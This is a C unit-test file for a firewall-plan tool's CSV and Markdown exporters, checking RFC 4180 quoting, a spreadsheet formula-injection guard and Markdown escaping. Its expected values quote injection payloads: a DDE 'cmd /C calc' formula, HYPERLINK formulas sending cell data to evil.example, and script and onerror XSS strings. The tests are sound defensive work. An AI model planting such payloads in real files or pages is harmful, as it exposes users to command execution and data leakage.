/* Unit tests of the exporters: RFC 4180 quoting and the spreadsheet
 * formula-injection guard in CSV, table-cell escaping in Markdown, driven
 * through export_csv and export_markdown with the hostile catalog in
 * tests/catalogs/hostile/ (and the cell helpers directly for what the
 * catalog importer already cleans away: TAB, CR, LF). */
#include "config.h"

#include <criterion/criterion.h>
#include <errno.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "catalog/catalog.h"
#include "export/export.h"
#include "plan/plan.h"
#include "resolve/resolve.h"
#include "util/str.h"

#ifndef TESTS_SRCDIR_DEFAULT
#define TESTS_SRCDIR_DEFAULT "tests"
#endif

/* ---- fixture ---------------------------------------------------------- */

static char root[PATH_MAX];

static int
rm_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

static void
setup(void)
{
	const char *tmp = getenv("TMPDIR");
	char *cache;

	snprintf(root, sizeof root, "%s/pp-unit-export-XXXXXX",
		 tmp != NULL && *tmp ? tmp : "/tmp");
	cr_assert_not_null(mkdtemp(root), "mkdtemp: %s", strerror(errno));
	cache = xasprintf("%s/cache", root);
	setenv("XDG_CACHE_HOME", cache, 1);
	free(cache);
}

static void
teardown(void)
{
	if (root[0] != '\0')
		nftw(root, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
}

TestSuite(csv, .init = setup, .fini = teardown);
TestSuite(markdown, .init = setup, .fini = teardown);

/* Everything one export needs; freed by doc_fini. */
struct doc {
	struct catalog *cat;
	struct plan *plan;
	struct resolution *res;
	struct sbuf out;
};

/* Opens the hostile catalog, selects its product and resolves. */
static void
doc_init(struct doc *d)
{
	struct catalog_config cfg;
	struct pp_error err;
	const char *src = getenv("TESTS_SRCDIR");

	memset(d, 0, sizeof *d);
	sbuf_init(&d->out);
	catalog_config_init(&cfg);
	strlist_addf(&cfg.dirs, "%s/catalogs/hostile",
		     src != NULL && *src ? src : TESTS_SRCDIR_DEFAULT);
	cfg.db_path = xasprintf("%s/hostile.sqlite", root);
	cr_assert_eq(catalog_open(&cfg, &d->cat, NULL, &err), 0, "%s:%ld: %s",
		     err.file, err.line, err.msg);
	catalog_config_fini(&cfg);
	d->plan = plan_new();
	plan_add_product(d->plan, "evil");
}

static void
doc_resolve(struct doc *d)
{
	struct pp_error err;

	cr_assert_eq(resolve(d->cat, d->plan, &d->res, &err), 0, "%s", err.msg);
}

static void
doc_fini(struct doc *d)
{
	resolution_free(&d->res);
	plan_free(&d->plan);
	catalog_free(&d->cat);
	sbuf_fini(&d->out);
}

static void
render(struct doc *d, int (*write)(const struct export_input *, struct sbuf *,
				   struct pp_error *))
{
	struct export_input in;
	struct pp_error err;

	if (d->res == NULL)
		doc_resolve(d);
	in.plan = d->plan;
	in.res = d->res;
	in.catalog_lang = "en";
	sbuf_reset(&d->out);
	cr_assert_eq(write(&in, &d->out, &err), 0, "%s", err.msg);
}

static char *
field(const char *s, int free_text)
{
	struct sbuf b;

	sbuf_init(&b);
	export_csv_field(&b, s, free_text);
	if (b.s == NULL)
		sbuf_add(&b, "");
	return sbuf_take(&b);
}

static char *
cell(const char *s)
{
	struct sbuf b;

	sbuf_init(&b);
	export_md_cell(&b, s);
	if (b.s == NULL)
		sbuf_add(&b, "");
	return sbuf_take(&b);
}

#define EXPECT_FIELD(in, ft, want) do { \
	char *got_ = field(in, ft); \
	cr_assert_str_eq(got_, want, "field(\"%s\", %d)", in, ft); \
	free(got_); \
} while (0)

#define EXPECT_CELL(in, want) do { \
	char *got_ = cell(in); \
	cr_assert_str_eq(got_, want, "cell(\"%s\")", in); \
	free(got_); \
} while (0)

/* ---- CSV: a strict RFC 4180 reader ------------------------------------ */

struct csv {
	struct strlist *rows;	/* fields of each record */
	size_t n;
};

static void
csv_fini(struct csv *c)
{
	for (size_t i = 0; i < c->n; i++)
		strlist_fini(&c->rows[i]);
	free(c->rows);
}

/* Parses S; every record must end with CRLF, quotes only around whole
 * fields.  Returns the byte offset of the first error, or -1. */
static long
csv_parse(const char *s, struct csv *c)
{
	size_t i = 0;

	c->rows = NULL;
	c->n = 0;
	while (s[i] != '\0') {
		struct strlist row;

		strlist_init(&row);
		for (;;) {
			struct sbuf f;

			sbuf_init(&f);
			if (s[i] == '"') {
				for (i++;; i++) {
					if (s[i] == '\0') {
						sbuf_fini(&f);
						strlist_fini(&row);
						return (long)i;
					}
					if (s[i] == '"') {
						if (s[i + 1] != '"')
							break;
						i++;
					}
					sbuf_addc(&f, s[i]);
				}
				i++;
			} else {
				for (; s[i] != ',' && s[i] != '\r' && s[i] != '\n' &&
				       s[i] != '\0'; i++) {
					if (s[i] == '"') {
						sbuf_fini(&f);
						strlist_fini(&row);
						return (long)i;
					}
					sbuf_addc(&f, s[i]);
				}
			}
			strlist_add(&row, sbuf_str(&f));
			sbuf_fini(&f);
			if (s[i] == ',') {
				i++;
				continue;
			}
			if (s[i] == '\r' && s[i + 1] == '\n') {
				i += 2;
				break;
			}
			strlist_fini(&row);
			return (long)i;	/* bare LF, junk after a quote, no CRLF at the end */
		}
		c->rows = xreallocarray(c->rows, c->n + 1, sizeof *c->rows);
		c->rows[c->n++] = row;
	}
	return -1;
}

static size_t
csv_col(const struct csv *c, const char *name)
{
	for (size_t i = 0; i < c->rows[0].n; i++)
		if (strcmp(c->rows[0].v[i], name) == 0)
			return i;
	cr_assert_fail("no column %s", name);
	return 0;
}

/* The record whose flow_id is ID. */
static const struct strlist *
csv_row(const struct csv *c, const char *id)
{
	size_t k = csv_col(c, "flow_id");

	for (size_t i = 1; i < c->n; i++)
		if (strcmp(c->rows[i].v[k], id) == 0)
			return &c->rows[i];
	cr_assert_fail("no row for %s", id);
	return NULL;
}

static bool
formula_start(const char *s)
{
	static const char *const fullwidth[] = {
		"\xef\xbc\x9d", "\xef\xbc\x8b", "\xef\xbc\x8d", "\xef\xbc\xa0",
	};

	if (strchr("=+-@\t\r\n", s[0]) != NULL && s[0] != '\0')
		return true;
	for (size_t i = 0; i < 4; i++)
		if (strncmp(s, fullwidth[i], 3) == 0)
			return true;
	return false;
}

/* ---- CSV ---------------------------------------------------------------- */

Test(csv, field_quoting)
{
	EXPECT_FIELD("plain", 1, "\"plain\"");
	EXPECT_FIELD("", 1, "\"\"");
	EXPECT_FIELD(NULL, 1, "\"\"");
	EXPECT_FIELD("a,b", 1, "\"a,b\"");
	EXPECT_FIELD("say \"hi\"", 1, "\"say \"\"hi\"\"\"");
	EXPECT_FIELD("\"", 0, "\"\"\"\"");
	EXPECT_FIELD("a\r\nb", 1, "\"a\r\nb\"");
	EXPECT_FIELD("a\nb,c", 0, "\"a\nb,c\"");
	EXPECT_FIELD("caf\xc3\xa9", 1, "\"caf\xc3\xa9\"");
}

Test(csv, formula_guard)
{
	EXPECT_FIELD("=1+2", 1, "\"'=1+2\"");
	EXPECT_FIELD("+1", 1, "\"'+1\"");
	EXPECT_FIELD("-1", 1, "\"'-1\"");
	EXPECT_FIELD("@SUM(A1)", 1, "\"'@SUM(A1)\"");
	EXPECT_FIELD("\t=1", 1, "\"'\t=1\"");
	EXPECT_FIELD("\r=1", 1, "\"'\r=1\"");
	EXPECT_FIELD("\n=1", 1, "\"'\n=1\"");
	EXPECT_FIELD("\xef\xbc\x9d" "1", 1, "\"'\xef\xbc\x9d" "1\"");	/* ＝ */
	EXPECT_FIELD("\xef\xbc\x8b" "1", 1, "\"'\xef\xbc\x8b" "1\"");	/* ＋ */
	EXPECT_FIELD("\xef\xbc\x8d" "1", 1, "\"'\xef\xbc\x8d" "1\"");	/* － */
	EXPECT_FIELD("\xef\xbc\xa0" "x", 1, "\"'\xef\xbc\xa0" "x\"");	/* ＠ */
	EXPECT_FIELD("=\"x\"", 1, "\"'=\"\"x\"\"\"");
	/* not at the start: untouched */
	EXPECT_FIELD("a=1", 1, "\"a=1\"");
	EXPECT_FIELD(" =1", 1, "\" =1\"");
	/* other full-width characters sharing the lead bytes */
	EXPECT_FIELD("\xef\xbc\x81", 1, "\"\xef\xbc\x81\"");	/* ！ */
	/* columns we write ourselves are left alone */
	EXPECT_FIELD("-", 0, "\"-\"");
	EXPECT_FIELD("=1", 0, "\"=1\"");
}

Test(csv, hostile_catalog)
{
	struct doc d;
	struct csv c;
	long bad;
	size_t purpose, reference, reason, note, dlabel, saddr, slabel;

	doc_init(&d);
	render(&d, export_csv);
	bad = csv_parse(sbuf_str(&d.out), &c);
	cr_assert_eq(bad, -1, "not RFC 4180 at byte %ld: %.40s", bad,
		     sbuf_str(&d.out) + (bad < 0 ? 0 : bad));
	/* header + 19 firewall + 1 no-change + 1 host-local */
	cr_assert_eq(c.n, 22, "%zu records", c.n);
	for (size_t i = 0; i < c.n; i++)
		cr_assert_eq(c.rows[i].n, c.rows[0].n, "record %zu has %zu fields", i,
			     c.rows[i].n);
	/* no cell starts a formula, whatever column it is in */
	for (size_t i = 1; i < c.n; i++)
		for (size_t k = 0; k < c.rows[i].n; k++)
			cr_assert(!formula_start(c.rows[i].v[k]),
				  "record %zu column %s starts a formula: %s", i,
				  c.rows[0].v[k], c.rows[i].v[k]);

	purpose = csv_col(&c, "purpose");
	reference = csv_col(&c, "reference");
	reason = csv_col(&c, "inferred_reason");
	note = csv_col(&c, "note");
	dlabel = csv_col(&c, "destination_label");
	slabel = csv_col(&c, "source_label");
	saddr = csv_col(&c, "source_address");
	cr_assert_str_eq(csv_row(&c, "f-eq")->v[purpose], "'=1+2");
	cr_assert_str_eq(csv_row(&c, "f-eq")->v[reference], "'=cmd|' /C calc'!A0, Ports");
	cr_assert_str_eq(csv_row(&c, "f-plus")->v[purpose], "'+1+2");
	cr_assert_str_eq(csv_row(&c, "f-minus")->v[purpose], "'-1+2");
	cr_assert_str_eq(csv_row(&c, "f-at")->v[purpose], "'@SUM(1+2)");
	/* TAB, CR and LF are cleaned at import; what follows is still guarded */
	cr_assert_str_eq(csv_row(&c, "f-tab")->v[purpose], "'=1+2");
	cr_assert_str_eq(csv_row(&c, "f-cr")->v[purpose], "'=1+2");
	cr_assert_str_eq(csv_row(&c, "f-lf")->v[purpose], "'=1+2");
	cr_assert_str_eq(csv_row(&c, "f-fw-eq")->v[purpose], "'\xef\xbc\x9d" "1+2");
	cr_assert_str_eq(csv_row(&c, "f-fw-plus")->v[purpose], "'\xef\xbc\x8b" "1+2");
	cr_assert_str_eq(csv_row(&c, "f-fw-minus")->v[purpose], "'\xef\xbc\x8d" "1+2");
	cr_assert_str_eq(csv_row(&c, "f-fw-at")->v[purpose], "'\xef\xbc\xa0SUM(1+2)");
	cr_assert_str_eq(csv_row(&c, "f-quote")->v[purpose], "He said \"hi\", then left");
	cr_assert_str_eq(csv_row(&c, "f-quote")->v[reference], "a \"b\", c, Ports");
	cr_assert(strstr(sbuf_str(&d.out), "\"He said \"\"hi\"\", then left\"") != NULL);
	cr_assert_str_eq(csv_row(&c, "f-crlf")->v[purpose], "line one line two, with a comma");
	cr_assert_str_eq(csv_row(&c, "f-inf")->v[reason], "'=HYPERLINK(\"http://evil.example\")");
	cr_assert_str_eq(csv_row(&c, "f-inf")->v[note], "'@note | with a pipe and a new line");
	cr_assert_str_eq(csv_row(&c, "f-eq")->v[dlabel],
			 "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
	cr_assert_str_eq(csv_row(&c, "f-eq")->v[slabel], "'+evil server");
	cr_assert_str_eq(csv_row(&c, "f-eq")->v[saddr], "'-evil.example");
	cr_assert_str_eq(csv_row(&c, "f-local")->v[purpose], "'-local");
	cr_assert_str_eq(csv_row(&c, "f-nochange")->v[purpose], "'+no change");
	/* the two origins of one rule: joined, the second keeps its text */
	cr_assert_str_eq(csv_row(&c, "f-merge-a | f-merge-b")->v[purpose],
			 "plain | =second | origin");
	/* no control or bidirectional character survives */
	cr_assert(text_is_clean(csv_row(&c, "f-bidi")->v[purpose]));
	cr_assert_str_eq(csv_row(&c, "f-bidi")->v[purpose], "abcdcb31mx");
	csv_fini(&c);
	doc_fini(&d);
}

Test(csv, deterministic)
{
	struct doc d;
	char *first;

	doc_init(&d);
	render(&d, export_csv);
	first = xstrdup(sbuf_str(&d.out));
	resolution_free(&d.res);
	render(&d, export_csv);
	cr_assert_str_eq(sbuf_str(&d.out), first);
	free(first);
	doc_fini(&d);
}

/* ---- Markdown ------------------------------------------------------------ */

Test(markdown, cell_escaping)
{
	EXPECT_CELL("plain text", "plain text");
	EXPECT_CELL("", "");
	EXPECT_CELL(NULL, "");
	EXPECT_CELL("a|b", "a\\|b");
	EXPECT_CELL("a\nb", "a b");
	EXPECT_CELL("a\r\nb", "a  b");
	EXPECT_CELL("a\tb", "a b");
	EXPECT_CELL("back\\slash", "back\\\\slash");
	EXPECT_CELL("\\|", "\\\\\\|");
	EXPECT_CELL("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
	EXPECT_CELL("*b* _i_ `c` [l](u) # ~s~", "\\*b\\* \\_i\\_ \\`c\\` \\[l\\](u) \\# \\~s\\~");
	/* an underscore inside a word stays (file names) */
	EXPECT_CELL("000_15f20947a92a4b07.txt", "000_15f20947a92a4b07.txt");
}

/* Number of '|' not escaped by a backslash. */
static size_t
unescaped_pipes(const char *line, size_t len)
{
	size_t n = 0;

	for (size_t i = 0; i < len; i++) {
		if (line[i] == '\\')
			i++;
		else if (line[i] == '|')
			n++;
	}
	return n;
}

/* Every table keeps the shape of its header row; returns the number of
 * table rows whose first cell starts with PREFIX letters R, N or H. */
static size_t
check_tables(const char *md)
{
	size_t want = 0, rules = 0;
	bool in_table = false;

	for (const char *line = md; *line != '\0';) {
		const char *end = strchr(line, '\n');
		size_t len = end != NULL ? (size_t)(end - line) : strlen(line);

		if (len > 0 && line[0] == '|') {
			size_t n = unescaped_pipes(line, len);

			if (!in_table)
				want = n;
			in_table = true;
			cr_assert_eq(n, want, "table row has %zu cells, its header %zu: %.*s",
				     n - 1, want - 1, (int)len, line);
			cr_assert(line[len - 1] == '|', "row does not end with |: %.*s",
				  (int)len, line);
			if (len > 3 && strchr("RNH", line[2]) != NULL &&
			    line[3] >= '0' && line[3] <= '9')
				rules++;
		} else
			in_table = false;
		if (end == NULL)
			break;
		line = end + 1;
	}
	return rules;
}

/* No HTML but the <br> the writer puts in cells itself. */
static void
check_no_html(const char *md)
{
	for (const char *p = strchr(md, '<'); p != NULL; p = strchr(p + 1, '<'))
		cr_assert(strncmp(p, "<br>", 4) == 0, "raw HTML: %.40s", p);
}

/* No line of the document starts with TEXT. */
static void
check_no_line(const char *md, const char *text)
{
	size_t n = strlen(text);

	cr_assert(strncmp(md, text, n) != 0, "document starts with %s", text);
	for (const char *p = strchr(md, '\n'); p != NULL; p = strchr(p + 1, '\n'))
		cr_assert(strncmp(p + 1, text, n) != 0, "a line starts with \"%s\"", text);
}

Test(markdown, hostile_catalog)
{
	struct doc d;
	const char *md;

	doc_init(&d);
	render(&d, export_markdown);
	md = sbuf_str(&d.out);
	cr_assert_eq(check_tables(md), 21, "rule rows lost or split");
	check_no_html(md);
	check_no_line(md, "# heading");
	check_no_line(md, "# not a heading");
	check_no_line(md, "\\# not a heading");
	for (const char *p = md; *p != '\0'; p++)
		cr_assert(*p == '\n' || ((unsigned char)*p >= 0x20 && *p != 0x7f),
			  "control character 0x%02x in the document", (unsigned char)*p);
	cr_assert_null(strstr(md, "\xe2\x80\xae"), "U+202E in the document");
	cr_assert_null(strstr(md, "\xc2\x9b"), "C1 control in the document");
	cr_assert_null(strstr(md, "\xe2\x81\xa6"), "U+2066 in the document");
	/* the pipe in a purpose is escaped, the row intact */
	cr_assert_not_null(strstr(md, "| a \\| b \\|\\| c \\\\\\| d \\\\ |"));
	cr_assert_not_null(strstr(md, "&lt;script&gt;alert(1)&lt;/script&gt;"));
	/* zone labels in headings and the summary */
	cr_assert_not_null(strstr(md, "## Firewall rules: DMZ \\| &lt;b&gt;perimeter"));
	doc_fini(&d);
}

Test(markdown, hostile_plan_texts)
{
	struct doc d;
	const char *md;
	struct pp_error err;

	doc_init(&d);
	plan_set_meta(&d.plan->meta.title, "Title\n# injected heading");
	plan_set_meta(&d.plan->meta.change_id, "CHG | 1\n| fake | row |");
	plan_set_meta(&d.plan->meta.requester, "<img src=x onerror=alert(1)>");
	plan_set_meta(&d.plan->meta.window, "Sat\r\n## injected");
	plan_set_meta(&d.plan->meta.notes, "notes\n\n| fake | table |\n|---|---|");
	plan_add_zone(d.plan, "lab", "Lab | x\n# zone heading <b>");
	plan_place(d.plan, "peer2", "lab");
	cr_assert_eq(plan_add_address(d.plan, "peer", "192.0.2.1", &err), 0, "%s", err.msg);
	render(&d, export_markdown);
	md = sbuf_str(&d.out);
	check_tables(md);
	check_no_html(md);
	check_no_line(md, "# injected");
	check_no_line(md, "## injected");
	check_no_line(md, "# zone heading");
	check_no_line(md, "| fake");
	{
		static const char title[] = "# Firewall change request: Title \\# injected heading\n";

		cr_assert(strncmp(md, title, sizeof title - 1) == 0, "title: %.80s", md);
	}
	cr_assert_not_null(strstr(md, "192.0.2.1"));
	doc_fini(&d);
}

Test(markdown, deterministic)
{
	struct doc d;
	char *first;

	doc_init(&d);
	render(&d, export_markdown);
	first = xstrdup(sbuf_str(&d.out));
	resolution_free(&d.res);
	render(&d, export_markdown);
	cr_assert_str_eq(sbuf_str(&d.out), first);
	free(first);
	doc_fini(&d);
}

Test(export, counts_are_grouped_for_the_language)
{
	char buf[32];

	cr_assert_str_eq(export_count(buf, 7, "en"), "7");
	cr_assert_str_eq(export_count(buf, 999, "de"), "999");
	cr_assert_str_eq(export_count(buf, 71057, "en"), "71,057");
	cr_assert_str_eq(export_count(buf, 71057, "de"), "71.057");
	cr_assert_str_eq(export_count(buf, 1234567, "fr"), "1\xe2\x80\xaf" "234\xe2\x80\xaf" "567");
	cr_assert_str_eq(export_count(buf, 1000000, NULL), "1,000,000");
}
